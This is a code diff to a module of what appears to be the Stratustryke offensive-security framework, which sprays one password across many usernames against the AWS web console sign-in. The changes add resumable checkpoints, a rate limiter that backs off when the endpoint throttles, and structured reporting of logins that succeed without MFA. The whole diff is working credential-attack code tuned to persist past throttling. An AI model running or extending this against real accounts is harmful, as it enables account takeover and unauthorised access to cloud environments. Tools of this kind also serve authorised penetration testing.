@@ -18,6 +18,8 @@ class Module(StratustrykeModule):
     OPT_PASSWORD = 'PASSWORD'
     OPT_TIME_DELAY = 'TIME_DELAY'
 
+    CHECKPOINT_EXCLUDED_OPTIONS = StratustrykeModule.CHECKPOINT_EXCLUDED_OPTIONS + (OPT_TIME_DELAY,) # pacing; resumable after changing it
+
     def __init__(self, framework) -> None:
         super().__init__(framework)
 
@@ -116,19 +118,25 @@ class Module(StratustrykeModule):
 
 
     def password_spray(self, users: list, pwd: str) -> list:
-        '''Attempt password spraying attack against AWS web console, return list of potentially throttled users'''
+        '''Attempt password spraying attack against AWS web console, return list of potentially throttled users. Users with a
+        definitive result are marked complete in the run's checkpoint; failed / throttled attempts are retried on resume'''
         delay = self.get_opt(Module.OPT_TIME_DELAY)
+        checkpoint = self.checkpoint()
+        limiter = self.framework.rate_limiter # backs off the sign-in endpoint when throttled
+        limiter_key = ('signin.aws.amazon.com', None)
         
         throttled = []
         for user in users:
+            limiter.acquire(limiter_key)
             status, res = self.attempt_login(user, pwd)
             if (status == -1 or res == None):
                 time.sleep(delay)
                 continue
 
-            if status == 429: raise ThrottlingException()
-
             try:
+                if status == 429: raise ThrottlingException()
+                limiter.record(limiter_key, throttled=False)
+
                 state = res.get('state', None)
                 if state == None: raise StratustrykeException(f'Error Invalid response state for {user}:{pwd}')
 
@@ -140,16 +148,18 @@ class Module(StratustrykeModule):
                     if result == None: raise StratustrykeException(f'Error - invalid response result for {user}:{pwd}')
 
                     if result == 'SUCCESS':
-                        self.print_success(f'Successful login without MFA - {user}:{pwd}')
+                        self.emit('login', f'Successful login without MFA - {user}:{pwd}', username=user, result='success')
 
                     elif result == 'MFA':
                         mfatype = res.get('properties', {}).get('mfaType', 'Unknown')
-                        self.print_failure(f'MFA ({mfatype}) required for user - {user}')
+                        self.emit('login', f'MFA ({mfatype}) required for user - {user}', 'failure', username=user, result='mfa', mfa_type=mfatype)
+
+                checkpoint.complete(user)
 
             except ThrottlingException:
-                self.print_status(f'Potential throttling detected on {user}, sleeping 5 seconds...')
+                self.print_status(f'Potential throttling detected on {user}, backing off...')
                 throttled.append(user)
-                time.sleep(5)
+                limiter.record(limiter_key, throttled=True)
 
             except Exception as err:
                 self.print_error(f'{err}')
@@ -160,24 +170,14 @@ class Module(StratustrykeModule):
 
 
     def run(self):
-        uname = self.get_opt(Module.OPT_USERNAME)
         passwd = self.get_opt(Module.OPT_PASSWORD)
 
-        is_pasted = self._options.get_opt(Module.OPT_USERNAME)._pasted
-        if is_pasted: # paste command was used
-            usernames = self.load_strings(uname, is_paste=True)
-        elif Path.exists(Path(uname)): # filepath specified
-            usernames = self.load_strings(uname)
-        else:
-            usernames = [uname]
-
-        # Remove dunplicates / empty line entries
-        if len(usernames) > 1:
-            usernames = sorted(set(usernames), key = lambda idx: usernames.index(idx))
-            if ('' in usernames): usernames.remove('')
+        # Streamed and deduplicated (blank lines dropped) in order
+        usernames = list(self.iter_opt_lines(Module.OPT_USERNAME, unique=True))
 
         # Using Session.get() rather than self.http_request()
         self.print_warning(f'This module currently does not use framework web proxies')
+        usernames = self.checkpoint().pending(usernames) # users with a result from an interrupted run are skipped on resume
         self.print_status(f'Spraying against {len(usernames)} potential user(s)')
 
         throttled = self.password_spray(usernames, passwd)